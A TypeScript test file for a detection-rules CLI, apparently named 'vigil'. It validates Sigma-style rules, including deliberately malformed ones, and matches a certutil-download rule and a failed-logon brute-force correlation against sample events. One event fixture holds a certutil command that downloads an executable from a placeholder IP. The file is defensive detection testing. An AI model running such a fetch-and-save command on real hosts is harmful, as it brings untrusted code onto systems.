/**
 * The rules CLI contract, exactly as tools read it: `vigil rules validate <dir>` prints one JSON
 * line per rule file (ok, or the reason with file and line); `vigil rules match` prints one JSON
 * line per detection match and per correlation hit, with the 0-based event line and the group.
 */
import { execFile } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

const run = promisify(execFile);
const main = join(import.meta.dirname, '..', 'dist', 'src', 'cli', 'main.js');
let dir: string;

async function vigil(args: string[]): Promise<{ code: number; lines: Record<string, unknown>[]; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [main, ...args]);
    return { code: 0, lines: stdout.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Record<string, unknown>), stderr };
  } catch (error) {
    const failed = error as { code: number; stdout: string; stderr: string };
    return { code: failed.code, lines: [], stderr: failed.stderr };
  }
}

const good = `title: Certutil download
id: 11111111-1111-4111-8111-111111111111
logsource: { category: process_creation, product: windows }
detection:
    selection:
        Image|endswith: '\\certutil.exe'
        CommandLine|contains|all: ['urlcache', 'http']
    condition: selection
level: high
`;

const bruteForce = `title: Many failed logons from one address
id: 22222222-2222-4222-8222-222222222222
correlation:
    type: event_count
    rules: [failed_logon]
    group-by: [IpAddress]
    timespan: 1m
    condition: { gte: 3 }
level: high
---
title: Failed logon
id: 33333333-3333-4333-8333-333333333333
name: failed_logon
logsource: { product: windows, service: security }
detection:
    selection: { EventID: 4625 }
    condition: selection
level: informational
`;

const malformed: Record<string, string> = {
  'bad/pipe.yml': `title: Old aggregation\nlogsource: { product: windows }\ndetection:\n    selection: { EventID: 4625 }\n    condition: selection | count() > 5\n`,
  'bad/modifier.yml': `title: Unknown modifier\nlogsource: { product: windows }\ndetection:\n    selection:\n        CommandLine|containz: x\n    condition: selection\n`,
  'bad/regex.yml': `title: Bad regex\nlogsource: { product: windows }\ndetection:\n    selection:\n        CommandLine|re: '(unclosed'\n    condition: selection\n`,
  'bad/undefined.yml': `title: Undefined identifier\nlogsource: { product: windows }\ndetection:\n    selection: { EventID: 1 }\n    condition: selection and other\n`,
  'bad/yaml.yml': `title: [unclosed\n`,
};

beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'vigil-rules-'));
  mkdirSync(join(dir, 'rules', 'bad'), { recursive: true });
  writeFileSync(join(dir, 'rules', 'certutil.yml'), good);
  writeFileSync(join(dir, 'rules', 'brute-force.yaml'), bruteForce);
  for (const [name, text] of Object.entries(malformed)) writeFileSync(join(dir, 'rules', name), text);
  const events = [
    { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://203.0.113.5/a.exe a.exe', '@timestamp': '2026-11-25T08:00:00Z' },
    { Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -hashfile a.exe', '@timestamp': '2026-11-25T08:00:01Z' },
    ...[0, 10, 20, 30].map((s) => ({ EventID: 4625, IpAddress: '198.51.100.9', TargetUserName: 'admin', '@timestamp': `2026-11-25T08:01:${String(s).padStart(2, '0')}Z` })),
    { EventID: 4625, IpAddress: '198.51.100.10', '@timestamp': '2026-11-25T08:01:40Z' },
  ];
  writeFileSync(join(dir, 'events.jsonl'), events.map((e) => JSON.stringify(e)).join('\n'));
});

afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('vigil rules validate', () => {
  it('prints one line per file, ok or the reason with its line', async () => {
    const { code, lines } = await vigil(['rules', 'validate', join(dir, 'rules')]);
    expect(code).toBe(0);
    const byFile = new Map(lines.map((l) => [l['file'], l]));
    expect(byFile.size).toBe(7);
    expect(byFile.get('certutil.yml')).toEqual({ file: 'certutil.yml', ok: true });
    expect(byFile.get('brute-force.yaml')).toEqual({ file: 'brute-force.yaml', ok: true });
    const reasons: Record<string, RegExp> = {
      'bad/pipe.yml': /^bad\/pipe\.yml:5: .*aggregation/i,
      'bad/modifier.yml': /^bad\/modifier\.yml:5: .*containz/,
      'bad/regex.yml': /^bad\/regex\.yml:5: .*(regex|regular expression)/i,
      'bad/undefined.yml': /^bad\/undefined\.yml:5: .*other/,
      'bad/yaml.yml': /^bad\/yaml\.yml:\d+/,
    };
    for (const [file, reason] of Object.entries(reasons)) {
      const line = byFile.get(file);
      expect(line?.['ok']).toBe(false);
      expect(String(line?.['error'])).toMatch(reason);
    }
  });
});

describe('vigil rules match', () => {
  it('prints detection matches and correlation hits with their group', async () => {
    const { code, lines } = await vigil(['rules', 'match', '--ignore-logsource', '--rules', join(dir, 'rules'), '--events', join(dir, 'events.jsonl')]);
    expect(code).toBe(0);
    expect(lines).toEqual([
      { rule_id: '11111111-1111-4111-8111-111111111111', event: 0 },
      { rule_id: '22222222-2222-4222-8222-222222222222', event: 4, group: { IpAddress: '198.51.100.9' } },
    ]);
  });

  it('reads the time from --time-field', async () => {
    const events = [0, 1, 2].map((m) => JSON.stringify({ EventID: 4625, IpAddress: '192.0.2.1', when: `2026-11-25T08:0${m * 2}:00Z` }));
    writeFileSync(join(dir, 'slow.jsonl'), events.join('\n'));
    const { lines } = await vigil(['rules', 'match', '--ignore-logsource', '--time-field', 'when', '--rules', join(dir, 'rules', 'brute-force.yaml'), '--events', join(dir, 'slow.jsonl')]);
    expect(lines).toEqual([]);
  });
});
